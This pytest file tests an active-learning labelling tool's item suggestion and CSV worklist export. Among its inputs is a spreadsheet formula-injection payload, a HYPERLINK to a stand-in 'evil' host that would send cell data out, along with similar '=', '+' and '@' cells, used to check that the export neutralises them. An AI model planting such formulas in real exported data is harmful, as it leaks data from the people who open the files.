"""What to label next: what is left out, what is written, and that `fit --add` can read it."""

from __future__ import annotations

import csv
import json
import shlex
import shutil
from dataclasses import asdict, fields, replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from keiki.artifacts.bundle import Bundle
from keiki.artifacts.outputs import FEATURES
from keiki.artifacts.writer import write_bundle
from keiki.cli.main import _group as main_group
from keiki.cli.main import main
from keiki.core.errors import DataError, KeikiError, OptionError, RequestError, UnknownName
from keiki.core.files import sha256_bytes, sha256_file
from keiki.data.adding import read_added
from keiki.data.sources.base import Request, read
from keiki.data.worksheet import OURS
from keiki.evaluation.acquisition import STRATEGIES, margin
from keiki.pipeline import suggest as module
from keiki.pipeline import worklist
from keiki.pipeline.fit import make_request
from keiki.pipeline.request import FitRequest
from keiki.pipeline.suggest import fit_command, suggest
from keiki.pipeline.worklist import Suggestion
from keiki.testing.bundles import image_handover, paint, text_handover

POOL = ("a red apple pie", "call the phone shop", "apple phone", "a pear", "nothing of that", "green screen", "cracked")


@pytest.fixture
def texts(tmp_path: Path) -> Path:
    """A pool as a table, with a column more than needed."""
    path = tmp_path / "pool.csv"
    with path.open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows([("day", "message"), *(("may", text) for text in POOL)])
    return path


@pytest.fixture
def photos(tmp_path: Path) -> Path:
    paint(tmp_path / "pool", copies=3)
    return tmp_path / "pool"


def filled(path: Path, labels: list[str]) -> list[dict[str, str]]:
    """Fill in the column of labels; returns the rows."""
    with path.open(newline="", encoding="utf-8-sig") as file:
        rows = list(csv.DictReader(file))
    for row, label in zip(rows, labels, strict=True):
        row["label"] = label
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.DictWriter(file, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return rows


def test_the_most_uncertain_come_first(text_bundle: Path, texts: Path) -> None:
    found = suggest(text_bundle, texts, 3, by="margin", request=Request(input="message"))
    shares = Bundle.open(text_bundle).predict(POOL).probabilities
    expected = np.argsort(-margin(shares), kind="stable")[:3]
    assert [each.raw for each in found.items] == [POOL[i] for i in expected]
    first = found.items[0]
    assert first.label in ("fruit", "phone")
    assert first.probability == pytest.approx(float(shares[expected[0]].max()))


@pytest.mark.parametrize("by", STRATEGIES)
def test_every_way_chooses_as_many_as_asked_for(image_bundle: Path, photos: Path, by: str) -> None:
    found = suggest(image_bundle, photos, 4, by=by)
    assert len({each.id for each in found.items}) == 4
    assert all(each.why for each in found.items)
    assert found.pool == 9


def test_the_diverse_ways_take_every_colour(image_bundle: Path, photos: Path) -> None:
    found = suggest(image_bundle, photos, 3, by="coreset")
    assert {each.label for each in found.items} == {"red", "green", "blue"}


def test_what_the_run_has_seen_and_copies_are_left_out(tmp_path: Path, photos: Path) -> None:
    seen = photos / "red" / "0.png"
    write_bundle(tmp_path / "b", replace(image_handover(tmp_path / "train"), seen=(sha256_file(seen),)))
    shutil.copyfile(seen, photos / "red" / "again.png")
    shutil.copyfile(photos / "blue" / "1.png", photos / "blue" / "copy.png")
    (photos / "green" / "cut.png").write_bytes((photos / "green" / "0.png").read_bytes()[:200])
    found = suggest(tmp_path / "b", photos, 50)
    assert (found.seen, found.copies, found.unreadable, found.judged) == (2, 1, 1, 0)
    assert found.pool == 12
    assert len(found.items) == 8
    assert any("Only 8 items" in note for note in found.notes)


def test_a_text_is_known_whether_it_lies_in_a_cell_or_in_a_file(tmp_path: Path, texts: Path) -> None:
    seen = (sha256_bytes(POOL[0].encode()), sha256_bytes(POOL[1].encode()))
    write_bundle(tmp_path / "b", replace(text_handover(), seen=seen))
    assert suggest(tmp_path / "b", texts, 9, request=Request(input="message")).seen == 2
    (tmp_path / "files").mkdir()
    (tmp_path / "files" / "1.txt").write_bytes(b"\xef\xbb\xbf" + POOL[0].encode())
    (tmp_path / "files" / "2.txt").write_bytes(POOL[3].encode())
    found = suggest(tmp_path / "b", tmp_path / "files", 9)
    assert found.seen == 1
    assert [each.raw for each in found.items] == [POOL[3]]


def test_a_pool_of_seen_items_alone_is_refused(tmp_path: Path, texts: Path) -> None:
    seen = tuple(sha256_bytes(text.encode()) for text in POOL)
    write_bundle(tmp_path / "b", replace(text_handover(), seen=seen))
    with pytest.raises(DataError, match="the run has seen 7"):
        suggest(tmp_path / "b", texts, 2, request=Request(input="message"))


def test_wrong_requests_are_refused(text_bundle: Path, photos: Path, texts: Path) -> None:
    with pytest.raises(DataError, match="takes 'text'"):
        suggest(text_bundle, photos, 2)
    with pytest.raises(UnknownName, match="Did you mean 'entropy'"):
        suggest(text_bundle, texts, 2, by="entrpy")
    with pytest.raises(OptionError, match="-n"):
        suggest(text_bundle, texts, 0)
    with pytest.raises(KeikiError, match="no run or bundle"):
        suggest(texts.parent / "gone", texts, 2)


def test_labels_of_the_pool_play_no_part(text_bundle: Path, tmp_path: Path) -> None:
    found = []
    for labels in (("x", "y") * 4, ("", "z") * 4):
        with (tmp_path / "p.csv").open("w", newline="") as file:
            csv.writer(file).writerows([("text", "label"), *zip(POOL, labels, strict=False)])
        found.append(suggest(text_bundle, tmp_path / "p.csv", 3).items)
    assert found[0] == found[1]


def test_a_large_pool_is_compared_in_fewer_directions(
    text_bundle: Path, texts: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Angles between items are about the same in 64 random directions as in all."""
    features = Bundle.open(text_bundle).run(POOL, (FEATURES,))[0][FEATURES]
    monkeypatch.setattr(module, "KEPT_NUMBERS", 10)
    narrow = module._Narrower(features.shape[1], len(POOL), 0)(features)
    assert narrow.shape == (7, 64)
    cosines = [rows @ rows.T / np.outer(*[np.linalg.norm(rows, axis=1)] * 2) for rows in (features, narrow)]
    assert np.abs(cosines[0] - cosines[1]).max() < 0.5
    assert np.abs(cosines[0] - cosines[1]).mean() < 0.15
    assert len(suggest(text_bundle, texts, 3, request=Request(input="message")).items) == 3


# The table


def test_the_table_of_texts_has_the_columns_as_they_came(text_bundle: Path, texts: Path, tmp_path: Path) -> None:
    request = Request(input="message")
    found = suggest(text_bundle, texts, 3, request=request)
    path = worklist.write(tmp_path / "to-label.csv", found.items, found.modality, texts, request)
    rows = filled(path, ["fruit", "", "phone"])
    assert list(rows[0]) == ["message", *OURS, "day"]
    assert rows[0]["message"] == found.items[0].raw
    added = read_added(path, Request(input="message", label="team"))
    assert added.labels == ("fruit", "phone")
    whole = read(texts, Request(input="message", labelled=False))
    assert set(added.items.digests) <= set(whole.items.digests)


ODD = (
    "old mac\rline here you see",
    "dos\r\nand unix\nlines",
    'a "quoted" word, a comma; a semicolon\tand a tab',
    "  blanks on both sides  ",
    "line\u2028and\u2029paragraph\x85separators",
    '=HYPERLINK("http://evil/?"&A1,"click") please help',
    "+1 555 please call me back now",
    "@SUM(1+1) some text here",
    "-1.5",
    "'=quoted before",
    "\tbegins with a tab",
    "- milk",
)


def test_odd_texts_come_back_as_they_were(tmp_path: Path) -> None:
    pool = tmp_path / "pool.jsonl"
    pool.write_text("".join(json.dumps({"text": text}) + "\n" for text in ODD), encoding="utf-8")
    whole = read(pool, Request(labelled=False))
    items = [Suggestion(*each, "-class", 0.5, "=why") for each in zip(whole.items.ids, whole.items.raws, strict=True)]
    path = worklist.write(tmp_path / "to-label.csv", items, "text", pool, Request())
    with path.open(newline="", encoding="utf-8-sig") as file:
        cells = [cell for row in csv.reader(file, strict=True) for cell in row]
    assert {cell for cell in cells if cell[:1] in tuple("=+-@\t\r")} == {"-1.5"}
    filled(path, ["a"] * len(ODD))
    found = read_added(path)
    assert found.items.raws == whole.items.raws == ODD
    assert found.items.digests == whole.items.digests
    assert found.skipped == ()


def test_formulas_in_other_columns_and_in_names_are_guarded_too(text_bundle: Path, tmp_path: Path) -> None:
    pool = tmp_path / "pool.csv"
    with pool.open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows([("=cmd", "@who"), *((text, "+me") for text in POOL)])
    request = Request(input="=cmd")
    found = suggest(text_bundle, pool, 3, request=request)
    path = worklist.write(tmp_path / "out.csv", found.items, found.modality, pool, request)
    assert path.read_text().splitlines()[0] == f"'=cmd,{','.join(OURS)},'@who"
    assert all(row["'@who"] == "'+me" for row in filled(path, ["fruit"] * 3))
    assert set(read_added(path).items.raws) == {each.raw for each in found.items}


def test_a_file_whose_name_begins_like_a_formula_is_found_again(image_bundle: Path, tmp_path: Path) -> None:
    paint(tmp_path / "-pool")
    found = suggest(image_bundle, tmp_path / "-pool", 4)
    path = worklist.write(tmp_path / "out.csv", found.items, found.modality, tmp_path / "-pool", Request())
    assert all(row["file"].startswith("'-pool/") for row in filled(path, ["red"] * 4))
    assert list(read_added(path).items.digests) == [sha256_file(Path(str(each.raw))) for each in found.items]


def test_several_columns_stay_several(text_bundle: Path, tmp_path: Path) -> None:
    pool = tmp_path / "p.csv"
    pool.write_text('subject,body,label\n"red, ripe","an apple\non a tree",x\nbroken,"phone ""x""",y\nRe:,,z\n')
    request = Request(input="subject,body")
    found = suggest(text_bundle, pool, 3, request=request)
    path = worklist.write(tmp_path / "out.csv", found.items, found.modality, pool, request)
    rows = filled(path, ["fruit"] * 3)
    assert list(rows[0]) == ["subject", "body", *OURS]
    raws = read(pool, Request(input="subject,body", labelled=False)).items.raws
    assert set(read_added(path).items.raws) == set(raws) == {each.raw for each in found.items}


def test_texts_of_files_get_a_column_of_their_own(text_bundle: Path, tmp_path: Path) -> None:
    (tmp_path / "pool").mkdir()
    for i, text in enumerate(("an äpple, ripe", "two\nlines", '"quoted"')):
        (tmp_path / "pool" / f"{i}.txt").write_text(text, encoding="utf-8")
    found = suggest(text_bundle, tmp_path / "pool", 3)
    path = worklist.write(tmp_path / "out.csv", found.items, found.modality, tmp_path / "pool", Request())
    assert path.read_bytes().startswith(b"\xef\xbb\xbftext,label")  # a mark for spreadsheets: not all is ASCII
    filled(path, ["fruit"] * 3)
    assert set(read_added(path).items.raws) == {each.raw for each in found.items}


def test_pictures_are_found_again_from_the_table(image_bundle: Path, photos: Path, tmp_path: Path) -> None:
    found = suggest(image_bundle, photos, 4)
    near = worklist.write(tmp_path / "out.csv", found.items, found.modality, photos, Request())
    far = worklist.write(tmp_path / "else" / "where.csv", found.items, found.modality, photos, Request())
    digests = [sha256_file(Path(str(each.raw))) for each in found.items]
    for path in (near, far):
        filled(path, [each.label for each in found.items])
        added = read_added(path, Request(files=tmp_path / "not-there"))
        assert list(added.items.digests) == digests
        assert list(added.labels or ()) == [each.label for each in found.items]
    assert near.read_text().splitlines()[1].startswith("pool/")
    both = tmp_path / "moved"
    both.mkdir()
    shutil.move(photos, both / "pool")
    shutil.move(near, both / "out.csv")
    assert list(read_added(both / "out.csv").items.digests) == digests


def test_pictures_of_an_archive_are_laid_beside_the_table(
    image_bundle: Path, photos: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """They lie in the cache, which may be cleared before the labels stand there."""
    monkeypatch.setenv("KEIKI_CACHE", str(tmp_path / "cache"))
    shutil.move(photos, tmp_path / "cache" / "unpacked")
    found = suggest(image_bundle, tmp_path / "cache" / "unpacked", 4)
    path = worklist.write(tmp_path / "out.csv", found.items, found.modality, tmp_path / "pool.zip", Request())
    digests = [sha256_file(Path(str(each.raw))) for each in found.items]
    shutil.rmtree(tmp_path / "cache")
    filled(path, ["red"] * 4)
    assert list(read_added(path).items.digests) == digests


def test_a_table_that_may_hold_labels_is_not_written_over(tmp_path: Path) -> None:
    (tmp_path / "to-label.csv").write_text("work of a day")
    for name, said in (("to-label.csv", "labels may have been filled in"), ("x.xlsx", r"\.csv"), (".", r"\.csv")):
        with pytest.raises(RequestError, match=said):
            worklist.check_place(tmp_path / name)


# The command line


ASKED = FitRequest(
    data="/my data/photos",
    out="/runs/first",
    input="subject,body",
    label="-team",
    files="/it's here",
    group="patient id",
    time="day",
    near_copies="apart",
    add="/before.csv",
    val=0.1,
    test="/other data",
    method="lp-ft",
    backbone="hf:some/model",
    options=("epochs=5", "rate=1e-05"),
    metric="f1",
    positive="the 'odd' one",
    controls="none",
    accuracy=0.9,
    device="cuda",
    seed=7,
    samples=False,
)
HASTY = FitRequest(data="/photos", budget=90.5)  # stands beside no method
STARTED = FitRequest(data="/photos", source="own.safetensors", source_digest=sha256_bytes(b"weights"), old="/old")


@pytest.mark.parametrize("asked", [ASKED, HASTY, STARTED, FitRequest(data="/photos")])
def test_the_next_command_asks_for_the_same_again(
    asked: FitRequest, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    if asked.source is not None:
        (tmp_path / asked.source).write_bytes(b"weights")
        asked = replace(asked, source=str((tmp_path / asked.source).resolve()))

    class Heard(Exception):
        pass

    def hear(data: object, *, listeners: object, **wishes: Any) -> None:
        raise Heard(make_request(data, **wishes))

    monkeypatch.setattr("keiki.pipeline.fit.fit", hear)
    command = shlex.split(fit_command(json.loads(json.dumps(asked.to_json()))))
    assert command[:2] == ["keiki", "fit"]
    with pytest.raises(Heard) as caught:
        main_group()(args=[*command[1:], "--add", "/to-label.csv"], prog_name="keiki", standalone_mode=False)
    assert caught.value.args == (replace(asked, out=None, add="/to-label.csv"),)


def test_a_wish_of_a_fit_that_is_new_reaches_the_next_command() -> None:
    told = {name for name, value in asdict(ASKED).items() if value != FitRequest.__dataclass_fields__[name].default}
    assert {field.name for field in fields(FitRequest)} - told == {"budget", "source", "source_digest", "old"}


def test_what_was_not_asked_for_is_not_said() -> None:
    assert fit_command(FitRequest(data="/photos").to_json()) == "keiki fit /photos"
    assert fit_command({}) == "keiki fit DATA"


def test_suggest_says_what_next(
    image_bundle: Path,
    photos: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.chdir(tmp_path)
    assert main(["suggest", str(image_bundle), "pool", "-n", "6", "--quiet"]) == 0
    told = capsys.readouterr().out
    assert "and 1 more" in told
    assert "6 of 9 items of the pool: to-label.csv" in told
    assert told.splitlines()[-1].endswith("keiki fit DATA --add to-label.csv")
    assert len(Path("to-label.csv").read_text().splitlines()) == 7
    assert main(["suggest", str(image_bundle), "pool"]) == 2
    assert "labels may have been filled in" in capsys.readouterr().err


def test_suggest_json_is_one_object(
    text_bundle: Path, texts: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    arguments = ["suggest", str(text_bundle), str(texts), "-n", "2", "--input", "message", "--by", "entropy"]
    assert main([*arguments, "--out", str(tmp_path / "o.csv"), "--json", "--quiet"]) == 0
    found = json.loads(capsys.readouterr().out)
    assert (found["by"], found["pool"], len(found["items"])) == ("entropy", 7, 2)
    assert set(found["items"][0]) == {"id", "suggested_label", "probability", "why"}
    assert main([*arguments, "--by", "best", "--out", str(tmp_path / "p.csv")]) == 2
    assert not (tmp_path / "p.csv").exists()
